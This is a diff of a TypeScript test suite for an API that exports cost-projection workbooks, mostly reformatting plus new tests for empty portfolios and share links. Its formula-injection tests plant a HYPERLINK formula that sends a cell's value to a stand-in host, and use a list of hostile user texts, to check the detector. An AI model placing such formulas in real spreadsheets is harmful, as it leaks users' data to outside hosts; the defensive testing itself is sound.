@@ -93,10 +93,19 @@ describe('the workbook recalculates to the projection’s figures', () => {
 })
 
 /** The grid with one formula changed. */
-function withFormula(grid: Grid, sheet: string, row: number, col: number, change: (formula: string) => string): Grid {
-  const copy: Grid = new Map([...grid].map(([name, rows]) => [name, rows.map((cells) => (cells ? [...cells] : cells))]))
+function withFormula(
+  grid: Grid,
+  sheet: string,
+  row: number,
+  col: number,
+  change: (formula: string) => string,
+): Grid {
+  const copy: Grid = new Map(
+    [...grid].map(([name, rows]) => [name, rows.map((cells) => (cells ? [...cells] : cells))]),
+  )
   const cell = copy.get(sheet)![row - 1]![col - 1]
-  if (cell === null || typeof cell !== 'object') throw new Error(`${sheet} row ${row} col ${col} is not a formula`)
+  if (cell === null || typeof cell !== 'object')
+    throw new Error(`${sheet} row ${row} col ${col} is not a formula`)
   const changed = change(cell.formula)
   if (changed === cell.formula) throw new Error('the change changed nothing')
   copy.get(sheet)![row - 1]![col - 1] = { formula: changed }
@@ -117,22 +126,42 @@ describe('a wrong formula is caught', () => {
     const cases: { grid: Grid; expect: RegExp }[] = [
       {
         // The cache read price of the first workload's model, 0.01% off.
-        grid: withFormula(grid, SHEETS.requestCosts, layout.requestCosts.row(0), layout.requestCosts.segment('base', 'read'), (f) => `${f}*1.0001`),
+        grid: withFormula(
+          grid,
+          SHEETS.requestCosts,
+          layout.requestCosts.row(0),
+          layout.requestCosts.segment('base', 'read'),
+          (f) => `${f}*1.0001`,
+        ),
         expect: /^Workload 0 /,
       },
       {
         // Caching's ramp one month short (the second lever: (m − s + 2) instead of (m − s + 1)).
-        grid: withFormula(grid, SHEETS.monthly, layout.monthly.row(3), layout.monthly.adoption.caching!, (f) => f.replace('+1)/', '+2)/')),
+        grid: withFormula(
+          grid,
+          SHEETS.monthly,
+          layout.monthly.row(3),
+          layout.monthly.adoption.caching!,
+          (f) => f.replace('+1)/', '+2)/'),
+        ),
         expect: /^Monthly 3 adoption caching$/,
       },
       {
         // The waterfall's first bar from the wrong corner.
-        grid: withFormula(grid, SHEETS.monthly, layout.monthly.row(0), layout.monthly.bar(1), (f) => f.replace(/^(\$?[A-Z]+\$?\d+)/, '0*$1')),
+        grid: withFormula(grid, SHEETS.monthly, layout.monthly.row(0), layout.monthly.bar(1), (f) =>
+          f.replace(/^(\$?[A-Z]+\$?\d+)/, '0*$1'),
+        ),
         expect: /^Waterfall routing after$/,
       },
       {
         // Overage at list billed as if discounted.
-        grid: withFormula(grid, SHEETS.options, layout.options.row(1), layout.options.period(0, 'payment'), (f) => f.replace('"list"', '"x"')),
+        grid: withFormula(
+          grid,
+          SHEETS.options,
+          layout.options.row(1),
+          layout.options.period(0, 'payment'),
+          (f) => f.replace('"list"', '"x"'),
+        ),
         expect: /^Option 2 .* period 1 payment$/,
       },
     ]
@@ -152,23 +181,30 @@ describe('no user text is ever a formula', () => {
     // What the user wrote, as the API stored it (names, kinds, teams, tags, the portfolio and scenario names).
     const workloads = (await download(`/v1/portfolios/${built.portfolioId}/workloads?limit=100`)).json().data
     const portfolio = (await download(`/v1/portfolios/${built.portfolioId}`)).json()
-    const stored = (await download(`/v1/portfolios/${built.portfolioId}/scenarios/${built.scenarioId}`)).json()
+    const stored = (
+      await download(`/v1/portfolios/${built.portfolioId}/scenarios/${built.scenarioId}`)
+    ).json()
     const texts = [
       portfolio.name,
       stored.name,
-      ...workloads.flatMap((w: { name: string; kind: string | null; team: string | null; tags: string[] }) => [
-        w.name,
-        w.kind,
-        w.team,
-        ...w.tags,
-      ]),
+      ...workloads.flatMap(
+        (w: { name: string; kind: string | null; team: string | null; tags: string[] }) => [
+          w.name,
+          w.kind,
+          w.team,
+          ...w.tags,
+        ],
+      ),
     ].filter((t): t is string => typeof t === 'string' && t.length > 0)
     for (const hostile of HOSTILE_TEXTS.slice(0, 4)) expect(texts.some((t) => t.includes(hostile))).toBe(true)
     expect(formulaFindings(answer.rawPayload, texts)).toEqual([])
 
     // And read back, each is the text it was, not a computed value.
     const grid = await readGrid(answer.rawPayload)
-    const names = grid.get(SHEETS.workloads)!.slice(1).map((row) => row[0])
+    const names = grid
+      .get(SHEETS.workloads)!
+      .slice(1)
+      .map((row) => row[0])
     expect(names).toEqual(workloads.map((w: { name: string }) => w.name))
     const book = recalculateWithHyperFormula(grid)
     expect(book.value(SHEETS.workloads, 2, 1)).toBe(HOSTILE_TEXTS[0])
@@ -187,7 +223,10 @@ describe('no user text is ever a formula', () => {
     const { unzip } = await import('../helpers/zip.js')
     const files = unzip(answer.rawPayload)
     const sheet = [...files.keys()].find((p) => p.startsWith('xl/worksheets/'))!
-    const xml = files.get(sheet)!.toString('utf8').replace(/<f>[^<]*<\/f>/, '<f>HYPERLINK("http://x/?"&amp;A1)</f>')
+    const xml = files
+      .get(sheet)!
+      .toString('utf8')
+      .replace(/<f>[^<]*<\/f>/, '<f>HYPERLINK("http://x/?"&amp;A1)</f>')
     const { zipSync } = await import('../helpers/zip.js')
     files.set(sheet, Buffer.from(xml))
     const findings = formulaFindings(zipSync(files), ['=HYPERLINK("http://x/?"&A1)'])
@@ -223,6 +262,48 @@ describe('the workbook as a resource', () => {
     expect(changed.headers.etag).not.toBe(etag)
     const grid = await readGrid(changed.rawPayload)
     expect(grid.get(SHEETS.workloads)![1]![6]).toBe(130000)
+  })
+
+  it('of a portfolio without workloads answers what the projection answers', async () => {
+    const portfolio = (
+      await send('POST', '/v1/portfolios', { name: `empty ${process.pid}-${++counter}` })
+    ).json() as {
+      id: string
+    }
+    const created = (await send('POST', `/v1/portfolios/${portfolio.id}/scenarios`, {
+      name: 'nothing yet',
+      term: { start: '2027-01-01', months: 12 },
+      levers: [],
+    })) as { status: number; json: () => unknown }
+    expect(created.status).toBe(201)
+    const path = `/v1/portfolios/${portfolio.id}/scenarios/${(created.json() as { id: string }).id}`
+    const projection = await download(`${path}/projection`)
+    const workbook = await download(`${path}/workbook`)
+    expect(workbook.statusCode).toBe(projection.statusCode)
+    if (projection.statusCode >= 400) expect(workbook.json().code).toBe(projection.json().code)
+    else
+      expect(
+        mismatches(
+          expectedFigures(projection.json(), { tiers: [], overage: 'discounted' }),
+          recalculateWithHyperFormula(await readGrid(workbook.rawPayload)),
+        ),
+      ).toEqual([])
+  })
+
+  it('a spreadsheet pulls it through a share link, without a key', async () => {
+    const built = await scenario(0)
+    const link = await call(app, {
+      method: 'POST',
+      url: '/v1/share-links',
+      headers: bearer(tenant.keys.read),
+      payload: { path: built.workbook },
+    })
+    expect(link.statusCode).toBe(201)
+    const url = new URL((link.json() as { url: string }).url)
+    const pulled = await app.inject({ method: 'GET', url: `${url.pathname}${url.search}` })
+    expect(pulled.statusCode).toBe(200)
+    expect(pulled.headers['content-type']).toBe(XLSX_MEDIA_TYPE)
+    expect(Buffer.compare(pulled.rawPayload, (await download(built.workbook)).rawPayload)).toBe(0)
   })
 
   it('is another organization’s 404, needs a key, and a read key is enough', async () => {
